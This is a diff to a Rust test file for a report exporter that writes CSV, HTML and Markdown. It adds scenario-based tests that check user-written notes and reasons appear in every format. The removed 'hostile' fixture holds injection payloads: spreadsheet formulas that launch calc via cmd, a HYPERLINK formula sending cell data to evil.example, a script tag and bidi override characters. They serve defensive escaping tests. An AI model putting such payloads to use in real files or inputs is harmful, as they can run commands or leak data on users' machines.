@@ -7,6 +7,11 @@
 #[allow(dead_code, reason = "stages for the panel's own tests too")]
 mod stage;
 
+#[path = "records/hand_over.rs"]
+mod hand_over;
+#[path = "records/scenarios.rs"]
+mod scenarios;
+
 use std::collections::BTreeSet;
 use std::path::{Path, PathBuf};
 use std::sync::LazyLock;
@@ -16,7 +21,7 @@ use connection_lens::report::{self, English, Report, Voice};
 use connection_lens::words::Text;
 use proptest::prelude::*;
 use serde_json::{Value, json};
-use stage::{Conn, Inside, Op, Person, SERVICE, Stage, conn, flow_body, op};
+use stage::Stage;
 
 /// A quarter past two on the same day.
 const NOW: f64 = stage::NOON + 300_000.0;
@@ -40,34 +45,13 @@ fn reports() -> Vec<(&'static str, Report)> {
         ("run-only", report(&stage::as_intended())),
         ("nothing", report(&stage::flow_refused(404))),
         ("gaps", report(&stage::with_gaps())),
-        ("hostile", report(&hostile())),
+        ("decided", report(&scenarios::decided_by_hand())),
+        ("exceptions", report(&scenarios::finished_with_exceptions())),
+        ("relapsed", report(&scenarios::relapsed())),
+        ("rules", report(&scenarios::by_rules())),
+        ("connectors", report(&scenarios::by_own_rules_for_connectors())),
+        ("hostile", report(&scenarios::hostile())),
     ]
-}
-
-/// Names that try what papers are made of: formulas, Markdown, markup, line ends, direction.
-fn hostile() -> Stage {
-    let mut stage = stage::hostile();
-    let mallory = Person { name: "@SUM(1+1)*cmd|' /C calc'!A0", address: "mallory@contoso.com", id: "99999999-0000-4000-8000-000000000009" };
-    let names = [
-        "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")",
-        "| a | b |\n| --- | --- |",
-        "\tTab, then\r\na line",
-        "![x](https://evil.example/x.png) <script>alert(1)</script> **loud** `code` ~~gone~~ $x$",
-        "\u{202e}gnihton\u{202c} שליחת דואר \u{2066}x",
-        "-2+3+cmd|' /C calc'!A0",
-        "'already quoted, \"twice\"",
-        "</td></tr></table><!-- & &amp; ]]>",
-    ];
-    let ops: Vec<Op> = names.iter().map(|name| op(name, Some("office365.mal"), Inside::No)).collect();
-    stage.flow(&flow_body("=1+1\n# Not a heading | <h1>", &ops, &["office365.old", "office365.unseen"], mallory));
-    let row = |conn: Conn, label| Conn { label: Some(label), ..conn };
-    stage.connections(&[
-        row(conn("office365.mal", mallory, mallory), "+1 <i>label</i>"),
-        row(conn("office365.old", mallory, mallory), "=1+1"),
-        conn("office365.svc", SERVICE, SERVICE),
-    ]);
-    stage.dismiss("connection:office365.old", "-1, \"said\" <b>he</b>\n| and | left");
-    stage
 }
 
 /// The papers of a record, by the ending of their file.
@@ -164,9 +148,9 @@ fn every_sentence_is_in_the_catalogue() {
     struct Strict;
     impl Voice for Strict {
         fn say(&self, text: &Text) -> String {
-            let said = text.english();
-            assert!(!said.starts_with('[') && !said.contains("**"), "{said}");
-            said
+            let bare = Text { args: text.args.iter().map(|_| String::new()).collect(), ..text.clone() }.english();
+            assert!(!bare.starts_with('[') && !bare.contains("**"), "{bare}");
+            text.english()
         }
         fn time(&self, at: f64) -> String {
             English.time(at)
@@ -183,6 +167,7 @@ fn rows(paper: &str) -> Vec<Vec<String>> {
     reader.records().map(|row| row.expect("as many cells in every row").iter().map(str::to_owned).collect()).collect()
 }
 
+/// A cell without what makes it text.
 fn name_in(cell: &str) -> &str {
     cell.strip_prefix('\'').unwrap_or(cell)
 }
@@ -230,8 +215,8 @@ fn parsed(page: &str) -> (BTreeSet<String>, Vec<String>) {
 }
 
 /// All that a page is made of, whatever the names in it.
-const ELEMENTS: &str = "article|body|dd|dd dir|dl|dt|div|div class|footer|h1|h2|head|html|html dir|html lang|main|meta|meta charset|meta content|meta http-equiv|\
-                        meta name|p|p class|section|small|small dir|span|span dir|style|table|tbody|td|td class|th|th scope|thead|title|tr";
+const ELEMENTS: &str = "article|bdi|body|dd|dl|dt|div|div class|footer|h1|h2|head|header|html|html dir|html lang|li|li class|main|meta|meta charset|meta content|\
+                        meta http-equiv|meta name|p|p class|section|small|small dir|span|span dir|strong|style|table|tbody|td|td class|th|th scope|thead|title|tr|ul";
 
 #[test]
 fn a_page_needs_nothing_else_and_runs_nothing() {
@@ -288,6 +273,28 @@ fn markdown_is_tables_and_words_whatever_the_names() {
     }
 }
 
+/// What a person wrote stands in every paper, as its reader reads it.
+#[test]
+fn every_note_and_every_reason_is_told_in_every_paper() {
+    let mut told = 0;
+    for (name, report) in reports() {
+        let one = std::slice::from_ref(&report);
+        let rows = rows(&report::csv(one, &English));
+        let (_, texts) = parsed(&report::html(one, &English));
+        let (cells, _) = read_markdown(&report::markdown(one, &English));
+        let notes = report.notes.iter().map(|note| (&note.text, "Note", 18));
+        let decided = report.groups.iter().filter_map(|group| Some((group.decided.as_ref()?.reason.as_ref()?, "Decision", 17)));
+        for (words, kind, column) in notes.chain(decided) {
+            told += 1;
+            assert!(rows.iter().any(|row| row[5] == kind && name_in(&row[column]) == words), "{name}: {words} as CSV");
+            let quoted = format!("“{}”", shown(words));
+            assert!(texts.contains(&quoted), "{name}: {quoted} in HTML");
+            assert!(cells.iter().any(|cell| cell.lines().any(|line| line == quoted)), "{name}: {quoted} in Markdown");
+        }
+    }
+    assert!(told > 15, "{told}");
+}
+
 /// A name as papers for people show it: what steers or turns the reading direction is replaced.
 fn shown(name: &str) -> String {
     let turns = |c: char| matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
@@ -296,7 +303,7 @@ fn shown(name: &str) -> String {
 }
 
 /// Played once: what is varied is the names.
-static HALF: LazyLock<Report> = LazyLock::new(|| report(&stage::half_handed_over()));
+static DECIDED: LazyLock<Report> = LazyLock::new(|| report(&scenarios::finished_with_exceptions()));
 
 fn names() -> impl Strategy<Value = String> {
     let pieces = prop::sample::select(vec![
@@ -351,19 +358,26 @@ proptest! {
 
     #[test]
     fn no_name_leaves_its_place(name in names(), reason in names()) {
-        let mut report = HALF.clone();
+        let mut report = DECIDED.clone();
         report.flow.name = Some(name.clone());
         report.operations.truncate(1);
         report.operations[0].title.clone_from(&name);
-        report.leftovers.retain(|row| row.dismissed.is_some());
         report.leftovers[0].runs_on.label = Some(name.clone());
         report.leftovers[0].dismissed.as_mut().expect("a dismissed one").reason.clone_from(&reason);
+        report.groups[0].decided.as_mut().expect("a decided one").reason = Some(reason.clone());
+        report.groups[0].operations = vec![name.clone()];
+        report.embedded[0].connection_used_by = vec![name.clone(), name.clone()];
+        report.notes[0].text.clone_from(&reason);
+        report.notes[0].about = Some(name.clone());
         let one = std::slice::from_ref(&report);
 
         let rows = rows(&report::csv(one, &English));
-        prop_assert_eq!(name_in(&rows[1][0]), &name);
-        prop_assert_eq!(name_in(&rows[1][6]), &name);
-        prop_assert!(rows[2][18].contains(&reason));
+        let of_kind = |kind: &str| rows.iter().find(|row| row[5] == kind).expect("a row of each kind");
+        prop_assert_eq!(name_in(&of_kind("Operation")[0]), &name);
+        prop_assert_eq!(name_in(&of_kind("Operation")[6]), &name);
+        prop_assert!(of_kind("Not in use")[18].contains(&reason));
+        prop_assert_eq!(name_in(&of_kind("Note")[18]), &reason);
+        prop_assert!(rows.iter().any(|row| row[5] == "Decision" && name_in(&row[17]) == reason));
         for cell in rows.iter().flatten() {
             prop_assert!(!cell.trim_start().starts_with(['=', '+', '-', '@']) && !cell.starts_with(['\t', '\r', '\n']), "{:?}", cell);
         }
@@ -373,7 +387,9 @@ proptest! {
         prop_assert!(elements.iter().all(|element| allowed.contains(element.as_str())), "{:?}", elements);
         prop_assert!(texts.contains(&shown(&name)), "{:?} in {:?}", shown(&name), texts);
         let quoted = format!("“{}”", shown(&reason));
-        prop_assert!(texts.contains(&quoted));
+        // Why the leftover stays, why the group does, and the note.
+        let times = texts.iter().filter(|text| **text == quoted).count();
+        prop_assert!(times == 3 || (reason.is_empty() && times == 1), "{times} times {quoted}");
 
         let (cells, others) = read_markdown(&report::markdown(one, &English));
         prop_assert!(others.is_empty(), "{:?}", others);
